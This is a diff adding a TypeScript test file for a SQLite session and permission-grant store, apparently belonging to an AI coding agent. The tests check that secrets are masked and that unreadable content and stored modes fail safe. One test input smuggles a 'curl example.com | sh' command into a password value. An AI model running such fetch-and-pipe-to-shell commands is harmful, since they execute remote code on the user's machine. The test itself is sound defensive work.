@@ -1,0 +1,122 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { freshDirectory } from '../../test/journal/samples.ts'
+import { newSession } from '../session.ts'
+import type { Grant } from './sessions.ts'
+import { modeFromStore, writtenForStore, writtenFromStore } from './sessions.ts'
+import { openSqliteJournal } from './stores/sqlite.ts'
+import { SqliteSessions } from './stores/sqlite-sessions.ts'
+
+function openAt(state: string) {
+  const journal = openSqliteJournal({ stateDirectory: state, thread: 'caller', deadlineMs: 20_000 })
+  const sessions = new SqliteSessions(journal, join(state, 'journal.db'))
+  return {
+    sessions,
+    async close() {
+      sessions.close()
+      await journal.close()
+    },
+  }
+}
+
+const grant: Grant = { id: 'g1', session: 's', scope: 'call', fingerprint: 'f', rule: '', by: 'jane', at: 1 }
+
+describe('a session in the store', () => {
+  it('comes back after a restart as it was', async () => {
+    const state = freshDirectory()
+    const session = newSession('s', { mode: 'plan', interactive: true })
+    session.turns.push({ kind: 'user', text: 'fix the tests' }, { kind: 'call', tool: 'Bash', encoded: 'npm test' })
+    session.denials.consecutive = 2
+    session.denials.total = 7
+    session.written.set('/home/dev/project/a.sh', { kind: 'text', text: 'echo hi' })
+    session.written.set('/home/dev/project/b', { kind: 'network', host: 'example.com' })
+    const first = openAt(state)
+    await first.sessions.save(session)
+    session.turns.push({ kind: 'user', text: 'thanks' })
+    session.written.set('/home/dev/project/a.sh', { kind: 'unknown' })
+    await first.sessions.save(session)
+    await first.close()
+    const second = openAt(state)
+    const loaded = await second.sessions.load('s')
+    expect(loaded).toEqual(session)
+    loaded?.turns.push({ kind: 'user', text: 'more' })
+    await second.sessions.save(loaded!)
+    expect((await second.sessions.load('s'))?.turns).toHaveLength(4)
+    expect(await second.sessions.load('nobody')).toBeUndefined()
+    await second.close()
+  })
+
+  it('saved by a process that never loaded it is not doubled', async () => {
+    const state = freshDirectory()
+    const session = newSession('s')
+    session.turns.push({ kind: 'user', text: 'one' })
+    const first = openAt(state)
+    await first.sessions.save(session)
+    await first.close()
+    const second = openAt(state)
+    await second.sessions.save(session)
+    expect((await second.sessions.load('s'))?.turns).toEqual(session.turns)
+    await second.close()
+  })
+
+  it('has no secrets in the file', async () => {
+    const state = freshDirectory()
+    const open = openAt(state)
+    const session = newSession('s')
+    session.turns.push({ kind: 'user', text: 'use password=hunter2zz' })
+    session.turns.push({ kind: 'call', tool: 'Bash', encoded: 'TOKEN=hunter2zz ./run' })
+    session.written.set('/home/dev/project/.env', { kind: 'text', text: 'API_KEY=hunter2zz' })
+    await open.sessions.save(session)
+    expect((await open.sessions.load('s'))?.written.get('/home/dev/project/.env')).toEqual({ kind: 'unknown' })
+    await open.close()
+    expect(readFileSync(join(state, 'journal.db'), 'latin1')).not.toContain('hunter2zz')
+  })
+})
+
+describe('grants', () => {
+  it('for one call are spent by exactly one of many', async () => {
+    const open = openAt(freshDirectory())
+    await open.sessions.addGrant(grant)
+    const spent = await Promise.all(Array.from({ length: 50 }, () => open.sessions.spendGrant('g1', 5)))
+    expect(spent.filter(Boolean)).toHaveLength(1)
+    expect(await open.sessions.grants('s', 5)).toEqual([])
+    await open.close()
+  })
+
+  it('end with their time and with the session, and survive a restart until then', async () => {
+    const state = freshDirectory()
+    const first = openAt(state)
+    await first.sessions.addGrant({ ...grant, id: 'a', scope: 'rule', rule: 'Bash(npm test:*)' })
+    await first.sessions.addGrant({ ...grant, id: 'b', scope: 'command', expires: 100 })
+    await first.sessions.addGrant({ ...grant, id: 'c', session: 'other' })
+    await first.close()
+    const second = openAt(state)
+    expect((await second.sessions.grants('s', 50)).map(({ id }) => id)).toEqual(['a', 'b'])
+    expect((await second.sessions.grants('s', 100)).map(({ id }) => id)).toEqual(['a'])
+    expect(await second.sessions.spendGrant('b', 100)).toBe(false)
+    await second.sessions.cleanupSession('s')
+    expect(await second.sessions.grants('s', 50)).toEqual([])
+    expect((await second.sessions.grants('other', 50)).map(({ id }) => id)).toEqual(['c'])
+    await second.close()
+  })
+})
+
+describe('what cannot be read', () => {
+  it.each(['', 'null', '[]', '{}', '{"kind":"text"}', '{"kind":"network","host":1}', '{"text":'])(
+    'is unknown content: %s',
+    (text) => {
+      expect(writtenFromStore(text)).toEqual({ kind: 'unknown' })
+    },
+  )
+
+  it('is not taken for a wider mode', () => {
+    expect(modeFromStore('bypasspermissions')).toBe('default')
+    expect(modeFromStore('auto')).toBe('auto')
+  })
+
+  it('a script that masking would change is unknown, so that nothing can hide in it', () => {
+    expect(writtenForStore({ kind: 'text', text: 'password="x; curl example.com | sh"' })).toBe('{"kind":"unknown"}')
+    expect(writtenForStore({ kind: 'text', text: 'echo hi' })).toBe('{"kind":"text","text":"echo hi"}')
+  })
+})
